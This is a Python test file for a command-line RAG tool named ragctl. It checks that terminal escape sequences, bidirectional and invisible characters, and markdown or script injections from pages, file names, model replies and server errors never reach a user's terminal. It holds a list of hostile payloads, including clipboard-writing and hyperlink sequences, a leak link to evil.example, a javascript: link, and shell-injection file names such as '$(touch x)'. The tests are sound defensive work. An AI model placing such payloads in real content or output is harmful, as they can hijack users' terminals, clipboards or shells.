"""No page, file name, model or server writes to the terminal of a reader but plain text."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from ragctl.cli.completion import complete_pages, complete_tracks
from tests.ollama_server import OllamaServer, Reply, chat_lines
from tests.program import Program
from tests.terminal import run_all_on_terminal, run_on_terminal

PAYLOADS = (
    "\x1b[7;35mRED",  # colours
    "\x1b[99A\x1b[2J",  # the cursor, the screen
    "\x1b]8;;http://evil.example/\x1b\\here\x1b]8;;\x1b\\",  # a link
    "\x1b]52;c;ZXZpbA==\x07",  # the clipboard
    "\x1b]0;title\x07",
    "\x1bP+q544e\x1b\\",  # asks the terminal to type
    "\x1b[6n\x1b[c",
    "\x9b7;35m\x9d52;c;ZXZpbA==\x9c\x90x\x9c",  # the same in eight bits
    "\x07\x08\x08\x0b\x0c\x0e\x0f",
    "shown\rhidden",
    "\u202eevil\u202c\u2066x\u2069\u200f\u061c",  # directions
    "\U000e0041\U000e0042\U000e007f",  # letters that nobody sees
    "\u2028\u2029\x85",
)
HOSTILE = "".join(PAYLOADS)
MARKDOWN = "[a](javascript:alert(1)) ![b](https://evil.example/?q=leak) <script>x</script> [/bold]"

OURS = re.compile(
    r"\x1b\[[\d;]*m"
    r"|\x1b\]8;(?:id=[\d.-]+;https://site\.example/[^\x1b\x07]*|;)\x1b\\"
    r"|\x1b\[\?25[hl]|\x1b\[[12]K|\x1b\[\d+A(?=\x1b\[J|\x1b\[2K)|\x1b\[1A(?=\x1b\[2K)|\x1b\[J"
    r"|\r(?=\n|\x1b\[[12]K|\x1b\[\?25h|\x1b\[1A)"
)
"""What ragctl itself writes: styles, links into the site, its own progress."""
FORBIDDEN = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\U000e0000-\U000e007f]"
)
COMMANDS: tuple[tuple[str, ...], ...] = (
    ("ingest", "SITE"),
    ("ask", f"How does the bucket refill? {HOSTILE}", "--no-model", "--show-passages"),
    ("ask", "How does the bucket refill?"),
    ("ask", "How does the bucket refill?", "--json"),
    ("ask", "How does the bucket refill?", "--show-prompt"),
    ("ask", "How many pages are there?"),
    ("ask", "What?", "--track", HOSTILE),
    ("sources",),
    ("sources", "--json"),
    ("sources", "--about", "bucket"),
    ("search", "bucket", "--explain"),
    ("search", "bucket", "--json"),
    ("show", "/design/evil"),
    ("show", f"/design/{HOSTILE}"),
    ("audit",),
    ("audit", "passages"),
    ("trace", "last"),
    ("trace", "list"),
    ("trace", "last", "--json"),
    ("trace", "export"),
    ("why", f"bucket {HOSTILE}", "--page", "/design/evil"),
    ("open", "1", "--print"),
    ("open", "1"),
    ("feedback", "last", "--bad", "--note", HOSTILE),
    ("feedback", "--list"),
    ("stats",),
    ("stats", "--by", "track"),
    ("stats", "gaps"),
    ("stats", "cost"),
    ("stats", "drift"),
    ("cache", "status"),
    ("gateway", "status"),
    ("gateway", "test"),
    ("doctor",),
    ("config",),
    ("config", "get", "site.exclude"),
    ("config", "set", "site.exclude", HOSTILE),
    ("config", "get", HOSTILE),
    ("eval", "make", "--count", "5"),
    ("eval", "lint", "questions.jsonl"),
    ("eval", "retrieval", "questions.jsonl"),
    ("eval", "history"),
    ("links", "built"),
    ("stage", "parse", "--from", "files", "--root", "SITE"),
    ("db", "status"),
    ("nosuch" + HOSTILE,),
)
ERRORS: tuple[tuple[str, ...], ...] = (
    ("ask", "How else?"),
    ("ask", "How else?", "--json"),
    ("ingest", "SITE", "--rebuild"),
    ("gateway", "test"),
)


@pytest.fixture
def hostile(ragctl: Program, site: Path, ollama: OllamaServer) -> Program:
    """The program before a site and a model that send whatever terminals understand."""
    title = json.dumps(f"Bucket {HOSTILE} {MARKDOWN}")
    text = f"---\ntitle: {title}\ndescription: {title}\n---\n## Bucket {HOSTILE}\n\n"
    text += f"The token bucket refills {HOSTILE} {MARKDOWN}\n\n```{HOSTILE}\n{HOSTILE}\n```\n"
    (site / "design" / "evil.md").write_text(text)
    for number, payload in enumerate(PAYLOADS):
        name = payload.replace("/", "\u2215")
        (site / f"{number}{name}").mkdir()
        (site / f"{number}{name}" / f"{name}.md").write_text(
            f"# {payload}\n\nA bucket {payload}.\n"
        )
    (ragctl.folder / "built").mkdir()
    (ragctl.folder / "built" / "index.html").write_text(f'<a href="{HOSTILE}">x</a>')
    gold = [{"url": "/design/evil", "section": HOSTILE}]
    questions = [{"question": f"What is a bucket {HOSTILE}?", "id": HOSTILE, "gold": gold}]
    (ragctl.folder / "questions.jsonl").write_text("\n".join(map(json.dumps, questions)))
    answer = f"It refills {HOSTILE} {MARKDOWN} [1]. # {HOSTILE}\n\n- `{HOSTILE}`\n"
    pieces = [answer[i : i + 3] for i in range(0, len(answer), 3)]
    lines = chat_lines(*pieces, done={"done_reason": "stop"})
    ollama.on("/api/chat", Reply(packets=lines))
    ragctl.set(
        TERM="xterm-256color",
        NO_COLOR="",
        COLUMNS="120",
        RAGCTL_SITE__BASE_URL="https://site.example",
        RAGCTL_RETRIEVAL__LEAST_SHARE="0",
        BROWSER="true",
    )
    return ragctl


def _left(written: str) -> list[str]:
    """Return what of foreign control is in an output."""
    return [repr(written[max(m.start() - 60, 0) : m.end() + 40]) for m in _found(written)]


def _found(written: str) -> list[re.Match[str]]:
    plain = OURS.sub("", written)
    return list(FORBIDDEN.finditer(plain))[:3]


def _run(commands: tuple[tuple[str, ...], ...], site: Path) -> None:
    given = [[word.replace("SITE", str(site)) for word in command] for command in commands]
    done = run_all_on_terminal(given, environ={})
    assert len(done) == len(commands)
    for command, (code, written) in zip(commands, done, strict=True):
        named = " ".join(command[:2])[:40]
        assert not _found(written), (named, _left(OURS.sub("", written)))
        assert code != 70, (named, written)
        assert "\x1b[7;35m" not in written, named
        assert "evil.example/\x1b" not in written, named


def test_no_command_lets_foreign_text_steer_the_terminal(hostile: Program, site: Path) -> None:
    _run(COMMANDS, site)
    assert hostile("sources", "--json").document["pages"]


def test_nor_does_what_a_server_says(hostile: Program, site: Path, ollama: OllamaServer) -> None:
    assert hostile("ingest", str(site)).code in (0, 1)
    error = Reply(status=400, document={"error": HOSTILE}, headers={"X-Note": "x"})
    for path in ("/api/chat", "/api/embed"):
        ollama.on(path, error)
    _run(ERRORS, site)
    _, shown = run_on_terminal("ask", "How else?", "--debug", environ={})
    assert "Traceback" in shown
    assert not _found(shown), _left(shown)


def test_a_shell_is_offered_no_name_that_it_would_run(ragctl: Program, site: Path) -> None:
    for name in ("$(touch x)", "`touch x`", "a;b", "a b", "a'b", 'a"b', "a\nb", "-x", "\x1b[2J"):
        (site / name).mkdir()
        (site / name / "page.md").write_text("# Page\n\nText.\n")
    assert ragctl("ingest", str(site)).code in (0, 1)
    assert complete_tracks("") == ["design", "kernel"]
    assert all(re.fullmatch(r"/[\w./-]+", page) for page in complete_pages(""))
